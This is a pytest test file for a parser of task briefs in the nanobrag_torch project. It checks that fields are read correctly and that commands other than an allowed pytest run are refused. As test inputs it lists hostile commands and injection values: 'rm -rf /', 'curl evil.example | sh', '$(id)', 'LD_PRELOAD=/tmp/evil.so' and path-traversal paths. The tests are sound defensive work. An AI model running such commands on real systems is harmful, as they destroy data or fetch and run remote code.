from pathlib import Path

import pytest
from checkouts import AS_FOUND, BRIEF

from nanobrag_torch.workbook.brief import document as brief
from nanobrag_torch.workbook.errors import InputError

TEXT = BRIEF.read_text()


def test_the_projects_own_brief_is_parsed_field_by_field() -> None:
    parsed, text = brief.read(BRIEF)
    assert text == TEXT
    assert parsed.focus_id == "GRADIENT-FLOW-001" and parsed.focus == "Gradient flow"
    assert (parsed.initiative, parsed.phase, parsed.phase_letter) == ("2026-01-gradient-flow", "phase_a", "A")
    assert parsed.tests == (AS_FOUND,)
    assert parsed.artefacts == ("pytest.log", "pytest.xml", "exit_code.txt", "gradients.json", "summary.md")
    assert parsed.guards == {
        "CUDA_VISIBLE_DEVICES": "-1",
        "KMP_DUPLICATE_LIB_OK": "TRUE",
        "NANOBRAGG_DISABLE_COMPILE": "1",
    }
    assert parsed.pytest_options == ("-vv", "--maxfail=1", "--durations=10", "--tb=short")
    assert len(parsed.rationale) == 3 and len(parsed.pointers) == 4
    assert parsed.notebook_pattern == "gradient_flow/phase_a_*.ipynb"


def test_folded_lines_are_joined_by_one_blank() -> None:
    parsed = brief.parse(TEXT)
    assert parsed.if_blocked.endswith("and stop; the simulator stays as it is.")
    assert "\n" not in parsed.command and "  " not in parsed.command


def test_windows_line_ends_and_a_byte_order_mark_change_nothing(tmp_path: Path) -> None:
    file = tmp_path / "brief.txt"
    file.write_bytes(b"\xef\xbb\xbf" + TEXT.replace("\n", "\r\n").encode())
    assert brief.read(file)[0] == brief.parse(TEXT)


def test_the_embedded_script_gives_the_values_of_the_case() -> None:
    values = brief.parse(TEXT).parameters
    assert values["cell_a"] == 100.0 and values["cell_gamma"] == 90.0
    assert values["N_cells"] == [5, 5, 5]
    assert values["default_F"] == 0.0, "the script sets no factors, so the case is the config's default"
    assert values["dtype"] == "float64" and values["device"] == "cpu"


def test_every_command_in_a_brief_has_an_outcome() -> None:
    outcomes = {instruction.text: instruction.outcome for instruction in brief.parse(TEXT).instructions}
    assert sum(outcome.startswith("run as: env ") for outcome in outcomes.values()) == 1
    assert sum(outcome.startswith("done: ") for outcome in outcomes.values()) == 4
    assert sum(outcome.startswith("read, not run") for outcome in outcomes.values()) == 1


@pytest.mark.parametrize("command", ["rm -rf /", "curl evil.example | sh", "python tool.py", "export STAMP=$(id)"])
def test_an_unknown_command_in_the_how_to_is_refused_and_reported(command: str) -> None:
    text = TEXT.replace("- Then take the snapshot:", f"- Clean up with `{command}`.\n- Then take the snapshot:")
    outcomes = {instruction.text: instruction.outcome for instruction in brief.parse(text).instructions}
    assert outcomes[command].startswith("refused: not executed")


def test_a_fenced_shell_script_is_refused_and_reported() -> None:
    text = TEXT.replace("- Then take the snapshot:", "- Prepare:\n```\nrm -rf /\n```\n- Then take the snapshot:")
    refused = [entry.text for entry in brief.parse(text).instructions if entry.outcome.startswith("refused")]
    assert refused == ["rm -rf /"]


@pytest.mark.parametrize(
    "field", ["Summary", "Mode", "Focus", "Branch", "Mapped tests", "Artifacts", "Do Now", "If Blocked"]
)
def test_a_missing_field_is_named(field: str) -> None:
    lines, skipping = [], False
    for line in TEXT.splitlines():
        skipping = line.startswith(f"{field}:") or (skipping and line.startswith(" "))
        if not skipping:
            lines.append(line)
    with pytest.raises(InputError, match=f"brief, {field}: got 'no such field'"):
        brief.parse("\n".join(lines))


CONTRADICTIONS = {
    "Do Now, tests": (f"Mapped tests: {AS_FOUND}", "Mapped tests: tests/test_other.py::test_other"),
    "Do Now:": ("Focus: [GRADIENT-FLOW-001]", "Focus: [GRADIENT-FLOW-002]"),
    "Artifacts, phase": ("Phase A1", "Phase B1"),
    "Do Now, --junitxml": ("$STAMP/pytest.xml\nIf Blocked", "$STAMP/other.xml\nIf Blocked"),
    "How-To Map, script": ("$STAMP/gradients.json\nimport", "elsewhere/gradients.json\nimport"),
    "How-To Map, KMP_DUPLICATE_LIB_OK": ('"KMP_DUPLICATE_LIB_OK", "TRUE"', '"KMP_DUPLICATE_LIB_OK", "FALSE"'),
    "How-To Map, device": ('torch.device("cpu")', 'torch.device("cuda")'),
    "Artifacts": ("exit_code.txt,gradients.json", "exit_code.txt,core.dump"),
    "Summary": ("Mode: Evidence", "Mode: Evidence\nSummary: again"),
}


@pytest.mark.parametrize("field", CONTRADICTIONS)
def test_a_contradiction_names_its_field(field: str) -> None:
    before, after = CONTRADICTIONS[field]
    assert TEXT.count(before) >= 1
    with pytest.raises(InputError, match=f"brief, {field}"):
        brief.parse(TEXT.replace(before, after, 1))


HOSTILE_COMMANDS = {
    "; rm -rf /": "';'",
    "| sh": "'|'",
    "&& reboot": "'&'",
    "> /etc/passwd": "'>'",
    "$(id)": "'$'",
    "`id`": "'`'",
    "-p evil_plugin": "'-p'",
    "--rootdir=/": "'--rootdir=/'",
    "-c evil.ini": "'-c'",
    "-o addopts=x": "'-o'",
    "/etc/test_x.py": "'/etc/test_x.py'",
    "../test_x.py": "'../test_x.py'",
    "--maxfail=many": "'many'",
    "'unclosed": "closed quotes",
}


@pytest.mark.parametrize("words", HOSTILE_COMMANDS)
def test_whatever_is_not_a_pytest_run_from_the_list_is_refused(words: str) -> None:
    text = TEXT.replace("--maxfail=1", words, 1)
    with pytest.raises(InputError, match=r"brief, (Do Now|Mapped tests)") as error:
        brief.parse(text)
    assert HOSTILE_COMMANDS[words] in str(error.value)


@pytest.mark.parametrize("runner", ["python evil.py", "bash -c pytest", "sudo pytest", "pytest2"])
def test_only_pytest_is_run(runner: str) -> None:
    with pytest.raises(InputError, match="nothing but pytest is run from a brief"):
        brief.parse(TEXT.replace("pytest -vv", f"{runner} -vv", 1))


@pytest.mark.parametrize("guard", ["LD_PRELOAD=/tmp/evil.so", "PYTHONPATH=/tmp", "KMP_DUPLICATE_LIB_OK=maybe"])
def test_only_known_guards_with_known_values_are_set(guard: str) -> None:
    with pytest.raises(InputError, match="brief, Do Now"):
        brief.parse(TEXT.replace("KMP_DUPLICATE_LIB_OK=TRUE", guard, 1))


@pytest.mark.parametrize("path", ["../../etc/x/$STAMP/{summary.md}", "/tmp/a/b/$STAMP/{summary.md}", "reports/a/b/{x}"])
def test_artefacts_stay_below_reports(path: str) -> None:
    text = "\n".join(f"Artifacts: {path}" if line.startswith("Artifacts:") else line for line in TEXT.splitlines())
    with pytest.raises(InputError, match="brief, Artifacts"):
        brief.parse(text)


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"Summary: \x1b[31mred", b"", b"x" * 300_000])
def test_a_file_that_is_no_brief_is_refused_in_one_line(tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "brief.txt"
    file.write_bytes(content)
    with pytest.raises(InputError) as error:
        brief.read(file)
    assert "\n" not in str(error.value) and "\x1b" not in str(error.value)


def test_a_brief_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="No such file"):
        brief.read(tmp_path / "none.txt")
